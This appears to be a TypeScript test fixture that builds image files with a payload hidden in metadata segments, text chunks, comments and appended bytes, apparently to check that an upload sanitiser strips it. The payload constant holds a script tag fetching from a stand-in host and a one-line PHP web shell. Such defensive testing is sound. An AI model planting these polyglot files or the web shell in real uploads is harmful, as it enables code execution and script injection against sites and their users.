import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { withPngChunk } from './png.js';
import { photo, type Sample, sample } from './sample.js';

/** What every disguised sample carries somewhere in its bytes. */
export const PAYLOAD = '<script>fetch("//evil.example")</script><?php system($_GET[0]);';

/** True pictures that carry something else too: taken, and the payload must not survive. */
export async function disguisedSamples(): Promise<Sample[]> {
  const small = sharp(photo('kitchen-corner.png')).resize(200);
  const jpeg = await small.clone().jpeg().toBuffer();
  const png = await small.clone().png().toBuffer();
  const gif = await small.clone().gif().toBuffer();
  const webp = await small.clone().webp().toBuffer();
  const payload = Buffer.from(PAYLOAD);
  const segment = (marker: number, data: Buffer) => {
    const head = Buffer.from([0xff, marker, 0, 0]);
    head.writeUInt16BE(data.length + 2, 2);
    return Buffer.concat([jpeg.subarray(0, 2), head, data, jpeg.subarray(2)]);
  };
  const xmp = Buffer.concat([Buffer.from('http://ns.adobe.com/xap/1.0/\0'), payload]);
  const riffChunk = (type: string, data: Buffer) => {
    const chunk = Buffer.alloc(8 + data.length + (data.length % 2));
    chunk.write(type, 0, 'latin1');
    chunk.writeUInt32LE(data.length, 4);
    data.copy(chunk, 8);
    const file = Buffer.concat([webp, chunk]);
    file.writeUInt32LE(file.length - 8, 4);
    return file;
  };
  const gifComment = Buffer.concat([
    gif.subarray(0, gif.length - 1),
    Buffer.from([0x21, 0xfe, payload.length]),
    payload,
    Buffer.from([0, 0x3b]),
  ]);
  const zip = Buffer.concat([
    Buffer.from('PK\x03\x04'),
    payload,
    Buffer.from('PK\x05\x06'),
    Buffer.alloc(18),
  ]);

  return [
    sample('comment.jpg', 'HTML in a JPEG comment', segment(0xfe, payload)),
    sample(
      'exif.jpg',
      'HTML in an EXIF segment',
      segment(0xe1, Buffer.concat([Buffer.from('Exif\0\0'), payload])),
    ),
    sample('xmp.jpg', 'HTML in XMP', segment(0xe1, xmp)),
    sample(
      'iptc.jpg',
      'HTML in an IPTC segment',
      segment(0xed, Buffer.concat([Buffer.from('Photoshop 3.0\0'), payload])),
    ),
    sample('appended.jpg', 'HTML after the end', Buffer.concat([jpeg, payload])),
    sample('archive.jpg', 'a ZIP after the end', Buffer.concat([jpeg, zip])),
    sample('appended.png', 'PHP after the end', Buffer.concat([png, payload])),
    sample(
      'text.png',
      'HTML in a text chunk',
      withPngChunk(png, 'tEXt', Buffer.concat([Buffer.from('Comment\0'), payload])),
    ),
    sample(
      'packed.png',
      'HTML in a packed text chunk',
      withPngChunk(png, 'zTXt', Buffer.concat([Buffer.from('Comment\0\0'), deflateSync(payload)])),
    ),
    sample('unknown.png', 'HTML in a chunk of its own', withPngChunk(png, 'haHa', payload)),
    sample('comment.gif', 'script in a GIF comment', gifComment),
    sample('appended.gif', 'script after the end', Buffer.concat([gif, payload])),
    sample('chunk.webp', 'script in an unknown chunk', riffChunk('haha', payload)),
  ];
}
